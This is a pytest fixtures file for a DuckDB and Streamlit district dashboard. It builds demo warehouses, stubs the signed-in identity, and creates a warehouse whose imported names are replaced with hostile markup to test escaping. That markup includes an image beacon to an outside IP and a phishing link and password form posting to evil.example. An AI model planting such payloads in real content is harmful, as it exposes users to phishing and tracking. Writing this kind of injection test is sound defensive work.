"""Shared fixtures: one small demo warehouse per test session, opened read-only.

Building takes a few seconds at scale 0.1, so every test that reads the warehouse shares
the same file; only the calibration and determinism tests build extra warehouses.
"""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator
from pathlib import Path

import duckdb
import pandas as pd
import pytest

import queries
from access import identity
from data.build import build_warehouse

SCALE = 0.1
SEED = 2023


def build(directory: Path, scale: float = SCALE, seed: int = SEED) -> Path:
    """Build a demo warehouse into `directory` and return its path."""
    path = directory / f"demo-{seed}-{scale}.duckdb"
    build_warehouse(path, scale=scale, seed=seed)
    return path


def frame(con: duckdb.DuckDBPyConnection, sql: str, params: dict | None = None) -> pd.DataFrame:
    """Ad-hoc SQL for invariant checks, on its own cursor like `queries.run`."""
    cursor = queries.warehouse_cursor(con)
    try:
        return cursor.execute(sql, params or {}).df()
    finally:
        cursor.close()


@pytest.fixture(scope="session", autouse=True)
def _access_database(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Grants and the audit trail of every app the tests run (AppTest or a server started here) go to a
    file of this test session, never to data/access.sqlite3."""
    path = tmp_path_factory.mktemp("access") / "access.sqlite3"
    previous = os.environ.get("DASHBOARD_ACCESS_DB")
    os.environ["DASHBOARD_ACCESS_DB"] = str(path)
    yield path
    if previous is None:
        os.environ.pop("DASHBOARD_ACCESS_DB", None)
    else:
        os.environ["DASHBOARD_ACCESS_DB"] = previous


@pytest.fixture(autouse=True)
def _signed_in_as_the_local_user(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    """AppTest runs the app in-process, with no proxy and no websocket, so access.identity finds no
    session to read. The tests give it the laptop demo's user (local mode: the city, and 管理员), as
    phase 1 of issue 14 planned: by monkeypatching access.identity.current here, never by a switch
    in the environment that could be left on in production. Tests of the identity itself, and tests
    that sign in someone else, are marked `real_identity` or patch it again."""
    if request.node.get_closest_marker("real_identity"):
        return
    monkeypatch.delenv("DASHBOARD_AUTH", raising=False)
    monkeypatch.setattr(identity, "current", lambda: identity.Result(identity.Status.SIGNED_IN, identity.LOCAL_USER))


@pytest.fixture(scope="session")
def build_demo() -> Callable[..., Path]:
    """`build_demo(directory, scale=..., seed=...)`: build a demo warehouse, return its path."""
    return build


@pytest.fixture(scope="session")
def warehouse_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build(tmp_path_factory.mktemp("warehouse"))


@pytest.fixture(scope="session")
def con(warehouse_path: Path) -> Iterator[duckdb.DuckDBPyConnection]:
    connection = queries.connect(warehouse_path)
    yield connection
    connection.close()


@pytest.fixture(scope="session")
def sql(con: duckdb.DuckDBPyConnection) -> Callable[..., pd.DataFrame]:
    """`sql("select ...", {"name": value})` against the session warehouse, as a DataFrame."""

    def run(text: str, params: dict | None = None) -> pd.DataFrame:
        return frame(con, text, params)

    return run


@pytest.fixture(scope="session")
def scalar(sql: Callable[..., pd.DataFrame]) -> Callable[..., object]:
    """The single value of a one-row, one-column query."""

    def run(text: str, params: dict | None = None) -> object:
        result = sql(text, params)
        assert result.shape == (1, 1), f"expected one value, got shape {result.shape} from {text!r}"
        return result.iat[0, 0]

    return run


@pytest.fixture(scope="session")
def second_seed_con(tmp_path_factory: pytest.TempPathFactory) -> Iterator[duckdb.DuckDBPyConnection]:
    """A second warehouse (seed 7, scale 0.1), built once per session only if a test asks for it."""
    connection = queries.connect(build(tmp_path_factory.mktemp("warehouse-seed7"), seed=7))
    yield connection
    connection.close()


# Markup an attacker could put into an office's export file: HTML that fetches from outside,
# a phishing link and a password form; markdown that does the same; Streamlit's own styling.
HOSTILE_HTML = (
    '<img src="http://203.0.113.9/b.png" data-hostile="1"><a href="http://evil.example/login" data-hostile="1">请重新登录</a>'
    '<style>.hostile-style{}</style><form action="http://evil.example/f" data-hostile="1"><input name="pw"></form>'
)
HOSTILE_MARKDOWN = (
    "![x](http://203.0.113.9/beacon.png)[请点此重新登录](http://evil.example/login):red[HOSTILE_RED]**HOSTILE_BOLD**"
)
HOSTILE = HOSTILE_HTML + HOSTILE_MARKDOWN
HOSTILE_DISTRICT = "110101"  # 东城: every imported name there is hostile


@pytest.fixture(scope="session")
def hostile_warehouse_path(warehouse_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo warehouse with every imported free-text column of 东城 (and every volunteer project's
    service category there) replaced by hostile markup, as an import of a doctored file would leave it."""
    import shutil

    from data import rollups

    path = tmp_path_factory.mktemp("hostile") / "warehouse.duckdb"
    shutil.copyfile(warehouse_path, path)
    con = duckdb.connect(str(path))
    try:
        district = [HOSTILE_DISTRICT]
        # Names stay unique (streets and alleys are looked up by name within a district).
        for table, column in (("streets", "name"), ("alleys", "name"), ("villages", "name"), ("volunteer_projects", "name")):
            con.execute(
                f"update {table} as t set {column} = ? || n.i "  # fixed table and column names, values bound
                f"from (select rowid as r, row_number() over () as i from {table} where district_code = ?) as n "
                "where t.rowid = n.r",
                [HOSTILE, *district],
            )
        con.execute("update volunteer_projects set category = ? where district_code = ?", [HOSTILE, *district])
        con.execute(
            "update alley_supervisions set main_problem = ? where alley_id in (select alley_id from alleys where district_code = ?)",
            [HOSTILE, *district],
        )
        rollups.rebuild(con)
    finally:
        con.close()
    return path
